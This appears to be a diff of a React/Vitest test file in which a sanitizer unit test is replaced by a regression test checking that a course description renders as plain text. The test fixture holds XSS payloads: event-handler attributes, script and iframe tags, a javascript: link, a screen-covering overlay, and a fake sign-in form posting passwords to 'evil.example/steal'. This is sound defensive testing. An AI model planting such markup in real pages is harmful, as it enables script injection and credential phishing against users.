@@ -3,7 +3,6 @@ import { getDb } from '@atrium/mock-api';
 import { screen, waitFor } from '@testing-library/react';
 import userEvent from '@testing-library/user-event';
 import { describe, expect, it, vi } from 'vitest';
-import { sanitizeHtml } from '../components/sanitized-html';
 import { renderAcademy } from '../test/render';
 import { CourseDetailsPage } from './course-details-page';
 
@@ -69,9 +68,16 @@ describe('@atrium/academy/CourseDetailsPage', () => {
     expect(screen.getByRole('link', { name: 'Back to my courses' })).toHaveAttribute('href', '/apps/academy/my-course');
   });
 
-  it('sanitizes description HTML: scripts and handlers never reach the DOM', () => {
-    const clean = sanitizeHtml('<p onclick="alert(1)">Hi<script>alert(2)</script><img src=x onerror="alert(3)"><a href="javascript:alert(4)">x</a></p>');
-    expect(clean).not.toMatch(/script|onclick|onerror|javascript:/);
-    expect(clean).toContain('<p>Hi');
+  it('regression (issue 22): a stored description with a phishing form, a style overlay and scripts renders as plain text', async () => {
+    const details = getDb().courseDetails.find((d) => d.courseId === 4);
+    if (!details) throw new Error('course 4 has no details');
+    details.description =
+      '<div style="position:fixed;inset:0;z-index:9999"><p onclick="alert(1)">Session expired</p><script>alert(2)</script>' +
+      '<form action="https://evil.example/steal"><input type="password" name="p"><button>Sign in</button></form>' +
+      '<img src=x onerror="alert(3)"><a href="javascript:alert(4)">x</a><iframe src="https://evil.example"></iframe></div><style>body{display:none}</style>';
+    const { container } = renderAcademy(<CourseDetailsPage courseId={4} />);
+    expect(await screen.findByText('Session expired')).toBeInTheDocument();
+    expect(container.querySelector('form, input[type="password"], button[formaction], iframe, script, style:not([data-mantine-styles]), [style*="fixed"], [onclick], [onerror]')).toBeNull();
+    expect(container.innerHTML).not.toMatch(/javascript:|evil\.example/);
   });
 });
